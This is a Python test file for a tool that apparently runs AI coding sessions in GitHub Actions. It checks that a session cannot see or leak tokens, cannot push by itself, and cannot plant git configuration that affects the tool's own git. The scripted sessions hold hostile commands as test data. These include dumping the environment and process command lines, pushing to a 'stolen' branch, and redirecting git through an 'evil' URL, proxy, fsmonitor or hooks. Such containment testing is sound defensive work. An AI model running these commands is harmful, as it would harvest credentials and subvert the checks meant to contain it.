"""No secret where a session, a reader of GitHub or another process of the machine could find it."""

from __future__ import annotations

import base64
import os
import subprocess
import sys

import pytest

from tests.run.stage import ADD_RIGHT, HAND_OVER, Played, Stage, does, says, session

KEY = "sk-scripted-0123456789"


def forms(secret: str) -> tuple[str, ...]:
    """How a token could be met: as it is, and as git sends it."""
    return secret, base64.b64encode(f"x-access-token:{secret}".encode()).decode()


def everything_on_github(stage: Stage) -> str:
    """All that people can read: titles, texts with their earlier versions, commits and files."""
    texts = [event.text for number in (1, 2) for event in stage.repository.timeline(number)]
    for number in (1, *(pull.number for pull in stage.repository.pull_requests())):
        texts += [version for comment in stage.repository.comments(number) for version in comment.versions]
    texts += [f"{pull.title}\n{pull.body}" for pull in stage.repository.pull_requests()]
    log = subprocess.run(
        ["git", "-C", str(stage.repository.path), "log", "--all", "-p", "--format=fuller"],
        capture_output=True, text=True, check=True,
    )  # fmt: skip
    return "\n".join([*texts, log.stdout])


LOOK_AROUND = """\
env > {folder}/env
git remote -v > {folder}/remotes
git config --list --show-origin > {folder}/config
cat .git/config >> {folder}/config
for process in /proc/[0-9]*; do tr '\\0' ' ' < $process/cmdline; echo; done > {folder}/argv 2>/dev/null
git push origin HEAD > {folder}/push 2>&1; echo "exit $?" >> {folder}/push
git push {url} HEAD:refs/heads/stolen > {folder}/push-url 2>&1; echo "exit $?" >> {folder}/push-url
"""


@pytest.fixture
def looked(stage: Stage) -> Played:
    """A Run whose session looked around for a credential and tried to push."""
    commands = LOOK_AROUND.format(folder=stage.folder, url=stage.repository.clone_url)
    played = stage.run(
        session("implement", does(commands, "look around"), does(f"{ADD_RIGHT}; {HAND_OVER}"), says()),
        settings={"anthropic-api-key": KEY},
        environment={"GITHUB_TOKEN": "ghs_0123456789abcdefghij", "ACTIONS_RUNTIME_TOKEN": "runtime-0123456789"},
    )
    assert played.exit_code == 0, played.log
    return played


def test_session_has_no_credential(stage: Stage, looked: Played) -> None:
    """What a session sees of environment, git configuration and processes holds no token; the model's key is there."""
    seen = {name: stage.path(name).read_text(encoding="utf-8") for name in ("env", "remotes", "config", "argv")}
    assert f"ANTHROPIC_API_KEY={KEY}" in seen["env"]
    assert seen["remotes"] == ""
    for name, text in seen.items():
        for secret in (stage.token, "ghs_0123456789abcdefghij", "runtime-0123456789"):
            assert not any(form in text for form in forms(secret)), name
    assert KEY not in seen["argv"]
    assert "GITHUB_OUTPUT" not in seen["env"]
    assert "INPUT_" not in seen["env"]
    assert looked.survivors() == ()


def test_session_cannot_push(stage: Stage, looked: Played) -> None:
    """What a session tries to push by itself is refused for want of a credential."""
    assert "exit 0" not in stage.path("push").read_text(encoding="utf-8")
    assert "exit 0" not in stage.path("push-url").read_text(encoding="utf-8")
    assert "refs/heads/stolen" not in stage.repository.refs()
    assert looked.pull.head == "nightjar/issue-1"


def test_secrets_are_not_shown(stage: Stage) -> None:
    """A key that a session writes into every text it can is replaced in comments, log, summary and outputs."""
    tell = f"printf 'Add {KEY}\\n\\nThe key is {KEY}.\\n' > \"$NIGHTJAR_HANDOVER/pull-request.md\""
    played = stage.run(
        session("implement", does(f"{ADD_RIGHT}; {tell}", f"use {KEY}"), says(f"The key is {KEY}.")),
        settings={"anthropic-api-key": KEY},
    )

    shown = everything_on_github(stage) + played.log + played.job.summary + "\n".join(played.outputs.values())
    assert played.exit_code == 0, played.log
    assert "The key is ***." in played.pull.body
    for form in (*forms(KEY), *forms(stage.token)):
        assert form not in shown


def test_last_words_with_a_secret(stage: Stage) -> None:
    """The quoted last words of a session that changed nothing are cleaned like everything else."""
    played = stage.run(session("implement", says(f"I found {KEY} here.")), settings={"anthropic-api-key": KEY})

    assert played.exit_code == 1
    assert "I found *** here" in played.ending
    assert KEY not in played.log


def test_runner_is_told_what_to_mask(stage: Stage) -> None:
    """The first lines of the log have the runner hide token and key."""
    played = stage.run(label="bug", settings={"anthropic-api-key": KEY})

    assert set(played.job.log.splitlines()[:2]) == {f"::add-mask::{stage.token}", f"::add-mask::{KEY}"}


def test_no_secret_in_any_argv(stage: Stage) -> None:
    """No git that the program starts carries the token on its command line."""
    # A `git` that stands first on PATH and keeps every command line before it becomes the real one.
    folder = stage.path("bin")
    folder.mkdir()
    kept = stage.path("git-argv")
    shim = folder / "git"
    real = subprocess.run(["sh", "-c", "command -v git"], capture_output=True, text=True, check=True).stdout.strip()
    shim.write_text(
        f"#!{sys.executable}\nimport os, sys\n"
        f"open({str(kept)!r}, 'a').write(' '.join(sys.argv) + chr(10))\n"
        f"os.execv({real!r}, ['git', *sys.argv[1:]])\n",
        encoding="utf-8",
    )
    shim.chmod(0o755)
    played = stage.run(
        session("implement", does(f"{ADD_RIGHT}; {HAND_OVER}"), says()),
        environment={"PATH": f"{folder}:{os.environ['PATH']}"},
    )

    assert played.exit_code == 0, played.log
    lines = kept.read_text(encoding="utf-8")
    assert "push" in lines
    assert not any(form in lines for form in forms(stage.token))


@pytest.mark.parametrize(
    "plant",
    [
        "git config url.{evil}.insteadOf {url}",
        "git config core.fsmonitor 'touch {flag}'",
        "git config core.sshCommand 'touch {flag}'; git config http.proxy {evil}",
        "for hook in pre-commit pre-push; do echo 'touch {flag}' | install /dev/stdin .git/hooks/$hook; done",
        "git config --global core.hooksPath {evil_folder}; git config --global url.{evil}.insteadOf {url}",
    ],
    ids=["instead-of", "fsmonitor", "proxy", "hooks", "global"],
)
def test_planted_git_configuration(stage: Stage, plant: str) -> None:
    """What a session plants in git's configuration does not act on the program's own git."""
    # The session's own commands come before: planted things may well act on them.
    flag = stage.path("flag")
    command = plant.format(
        evil="http://127.0.0.1:9/", url=f"{stage.hub.server_url}/", flag=flag, evil_folder=stage.folder
    )
    left = ADD_RIGHT.partition("; git commit")[0]
    played = stage.run(session("implement", does(f"{left}; {HAND_OVER}; {command}"), says()))

    assert played.exit_code == 0, played.log
    assert "a - b" in stage.repository.file(played.pull.head_sha, "calc.py")
    assert not flag.exists()
